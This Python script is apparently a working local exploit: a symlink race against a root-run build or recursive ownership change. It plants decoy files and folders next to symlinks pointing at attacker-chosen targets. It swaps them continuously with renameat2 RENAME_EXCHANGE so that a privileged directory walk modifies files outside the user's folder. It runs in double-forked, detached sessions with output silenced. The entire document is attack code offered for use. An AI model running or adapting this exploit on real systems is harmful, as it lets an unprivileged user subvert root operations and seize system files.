"""
A build that would have root change what is not its own. swapper.py FOLDER SPARE FILE DIRECTORY [SECONDS]: in FOLDER, which
is this user's, it exchanges files and folders with links to FILE and DIRECTORY, as fast as the kernel can (renameat2 with
RENAME_EXCHANGE), for so long or until it is killed. More of them wait in SPARE, another folder of this user's on the same file
system, and are moved in as soon as FOLDER is somebody else's. It does so in sessions of its own, which nobody waits for.
"""

import ctypes
import os
import sys
import time

RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)


def lay(folder, name, target, is_folder):
    """A thing, and a link beside it that takes its place; the thing's name is what a walk comes across."""
    thing = os.path.join(folder, name)
    if is_folder:
        os.makedirs(os.path.join(thing, "inner"))
        for inner in ("inside.css", "inner/app.js"):
            with open(os.path.join(thing, inner), "w") as file:
                file.write("a{}" * 500)
    else:
        with open(thing, "w") as file:
            file.write("a{}" * 500)
    os.symlink(target, thing + "~")
    return name.encode(), (name + "~").encode()


def hammer(folder, place, file, directory, seconds):
    # Folders that all may write stay this user's to change when their owner is another.
    os.umask(0)
    os.chmod(folder, 0o777)
    own = os.path.join(place, "app%d" % os.getpid())
    os.makedirs(own)
    pairs = [lay(own, "file%d.css" % each, file, False) for each in range(3)]
    pairs += [lay(own, "folder%d" % each, directory, True) for each in range(2)]
    descriptor = os.open(own, os.O_RDONLY)
    rename, me, waiting = libc.renameat2, os.getuid(), place != folder
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        if waiting:
            try:
                if os.stat(folder).st_uid != me:
                    os.rename(own, os.path.join(folder, "zz%d" % os.getpid()))
                    waiting = False
            except OSError:
                pass
        for one, other in pairs * (10 if waiting else 500):
            rename(descriptor, one, descriptor, other, RENAME_EXCHANGE)


def detached(work):
    """Away from whoever has started this: a session of its own, and a parent that has gone."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), number)
    try:
        work()
    finally:
        os._exit(0)


def attack(folder, spare, file, directory, seconds=60.0):
    for place in (folder, spare):
        detached(lambda: hammer(folder, place, file, directory, seconds))


if __name__ == "__main__":
    attack(*sys.argv[1:5], *[float(word) for word in sys.argv[5:6]])
